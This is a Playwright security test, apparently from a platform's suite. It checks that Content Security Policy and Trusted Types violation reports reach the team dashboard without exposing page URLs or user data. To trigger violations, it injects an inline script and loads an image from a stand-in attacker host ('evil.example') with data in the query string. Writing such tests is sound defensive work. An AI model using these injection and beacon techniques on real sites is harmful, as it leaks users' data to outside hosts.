import { expect, test } from '../../support/platformTest';

test('security 20: content policy violations are reported to the teams without revealing whose page it was', async ({ page, site }) => {
  await page.route('**/login?*', async (route) => {
    const document = await route.fetch();
    await route.fulfill({ response: document, body: `${await document.text()}<script>window.__ran = 1</script>` });
  });
  await page.goto('/login?from=a-secret-place');
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'https://evil.example/picture.png?of=somebody';
    try {
      document.createElement('script').text = 'window.__ran = "words of somebody"';
    } catch (error) {
      Reflect.set(window, '__refused', String(error));
    }
  });
  expect(await page.evaluate(() => [Reflect.get(window, '__ran'), Reflect.get(window, '__refused')])).toEqual([
    undefined,
    expect.stringContaining("requires 'TrustedScript'"),
  ]);

  await page.goto('/platform');
  await page.getByLabel('Token of your team').fill(site.readToken('chat'));
  await page.getByRole('button', { name: 'Log in' }).click();
  const table = page.getByRole('region', { name: 'Reports of browsers' });
  await expect(async () => {
    await page.reload();
    await expect(table.getByRole('row', { name: /^require-trusted-types-for trusted-types-sink HTMLScriptElement text/ })).toBeVisible({
      timeout: 1_000,
    });
    await expect(table.getByRole('row', { name: /^img-src https:\/\/evil\.example / })).toBeVisible({ timeout: 1_000 });
    await expect(table.getByRole('row', { name: /^script-src-elem inline/ })).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 60_000 });
  await expect(table).not.toContainText(/secret|somebody/);
});
